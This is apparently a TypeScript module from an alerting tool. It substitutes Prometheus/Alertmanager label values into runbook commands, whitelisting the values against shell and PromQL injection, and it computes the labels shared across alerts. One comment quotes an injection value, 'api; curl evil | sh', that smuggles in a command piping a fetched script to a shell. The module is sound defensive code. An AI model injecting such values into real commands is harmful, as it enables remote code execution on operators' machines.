/**
 * Placeholders a runbook step may name a label with: `<service>`, `{{ $labels.service }}` (as in
 * Prometheus rule templates, https://prometheus.io/docs/prometheus/latest/configuration/template_examples/)
 * and `{{ service }}` (as in the runbooks' context queries). Only label-name shaped names match,
 * so `{{.Name}}` in a docker format string and `<a href>`-like text stay as they are.
 */
const PLACEHOLDER = /<([a-zA-Z_][a-zA-Z0-9_]*)>|\{\{\s*(?:\$labels\.)?([a-zA-Z_][a-zA-Z0-9_]*)\s*\}\}/g;

/**
 * Values that are one word in a shell command and inside a PromQL string: steps are commands a
 * reader copies into a terminal, and whoever sets a label (a target, relabelling, any webhook
 * sender) must not be able to rewrite them (`api; curl evil | sh`, or a `"` closing a matcher).
 */
const SAFE_VALUE = /^[A-Za-z0-9_.:/@%+=,-]{1,200}$/;

/**
 * A runbook step with every placeholder of a known label replaced by the label's value, when that
 * value is safe to paste into a command (SAFE_VALUE); other placeholders stay visible as written,
 * so the reader knows what to put there. The result is plain text: each channel escapes it as it
 * escapes any text.
 * @example fillPlaceholders('docker compose logs <service>', { service: 'checkout' }) // 'docker compose logs checkout'
 */
export function fillPlaceholders(text: string, labels: Readonly<Record<string, string>>): string {
  return text.replace(PLACEHOLDER, (whole, angle: string | undefined, braced: string | undefined) => {
    const name = angle ?? braced ?? '';
    const value = Object.hasOwn(labels, name) ? labels[name] : undefined;
    return value !== undefined && SAFE_VALUE.test(value) ? value : whole;
  });
}

/**
 * The labels every alert of a set shares with the same value: what a step about all of them can
 * be filled with (Alertmanager's commonLabels, for any subset of a group).
 * @example commonLabels([{ a: '1', b: '2' }, { a: '1', b: '3' }]) // { a: '1' }
 */
export function commonLabels(sets: ReadonlyArray<Readonly<Record<string, string>>>): Record<string, string> {
  const [first, ...rest] = sets;
  const out: Record<string, string> = {};
  for (const [k, v] of Object.entries(first ?? {}))
    if (rest.every((s) => Object.hasOwn(s, k) && s[k] === v)) out[k] = v;
  return out;
}
